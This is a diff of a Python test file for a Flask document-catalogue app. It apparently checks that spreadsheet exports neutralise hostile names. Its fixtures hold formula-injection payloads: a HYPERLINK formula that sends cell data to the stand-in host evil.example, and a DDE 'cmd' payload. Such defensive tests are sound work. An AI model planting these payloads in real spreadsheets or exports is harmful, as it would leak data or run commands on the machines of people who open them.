@@ -23,13 +23,14 @@ from flask import Flask
 from flask.testing import FlaskClient
 from lxml import etree
 
-from tests.conftest import EDITOR, login, make_app
+from tests.actors import AS_EDITOR
+from tests.conftest import login, make_app
 from zhengai_docs.catalogue import edit as catalogue_edit
 from zhengai_docs.catalogue.codes import document_code
 from zhengai_docs.catalogue.framework import parse_framework
+from zhengai_docs.cycles import rules
 from zhengai_docs.library import Library
 from zhengai_docs.spreadsheets import csv_bytes, xlsx_bytes
-from zhengai_docs.web import cycles as cycles_web
 
 TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'  # A105Z: overdue, so in the cycle report too
 FLAGGED_TITLE = "-2+3+cmd|' /C calc'!A0"  # A104B, flagged "需复核" once A104Z changes
@@ -53,32 +54,32 @@ PAYLOADS_IN = {  # which user-named things each export carries
 
 @pytest.fixture
 def app(instance: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Flask]:
-    monkeypatch.setattr(cycles_web, "_today", lambda: dt.date(2026, 11, 23))
+    monkeypatch.setattr(rules, "today", lambda now=None: dt.date(2026, 11, 23))
     application = make_app(instance)
     hostile_names(application.extensions["zhengai"].library)
     yield application
-    application.extensions["zhengai"].db.dispose()
+    application.extensions["zhengai"].close()
 
 
 def hostile_names(library: Library) -> None:
     """What a careless clerk or a hostile editor could type, each where the product takes it."""
-    library.rename_department(old="教务处", new=DEPARTMENT, author=EDITOR, base=library.repo.head())
+    library.rename_department(old="教务处", new=DEPARTMENT, actor=AS_EDITOR, base=library.repo.head())
     library.edit_catalogue(
         lambda c: catalogue_edit.update_item(c, code="A102", name=ITEM_NAME, departments=[DEPARTMENT]),
-        author=EDITOR,
+        actor=AS_EDITOR,
         message="条目更名",
         base=library.repo.head(),
     )
     for code, title in (("A105Z", TITLE), ("A104B", FLAGGED_TITLE)):
         loaded = library.load(document_code(code))
-        library.save(loaded.document.with_changes(title=title), author=EDITOR, message="标题", base=loaded.version.commit)
+        library.save(loaded.document.with_changes(title=title), actor=AS_EDITOR, message="标题", base=loaded.version.commit)
     regulation = library.load(document_code("A104Z"))  # changed after A104B: A104B needs review
     changed = regulation.document.with_changes(body=regulation.document.body + "\n补充条款。\n")
-    library.save(changed, author=EDITOR, message="补充", base=regulation.version.commit)
+    library.save(changed, actor=AS_EDITOR, message="补充", base=regulation.version.commit)
     text = library.repo.read("frameworks/moe-2015.yaml").text
     framework = parse_framework(text.replace("name: 规划制定与实施", 'name: "－1+1 规划制定与实施"', 1))
     assert framework.point("2.1.1") is not None and framework.point("2.1.1").name == POINT_NAME  # type: ignore[union-attr]
-    library.frameworks.save(framework, author=EDITOR, message="框架修订")
+    library.import_framework(framework, actor=AS_EDITOR, message="框架修订")
 
 
 @pytest.fixture
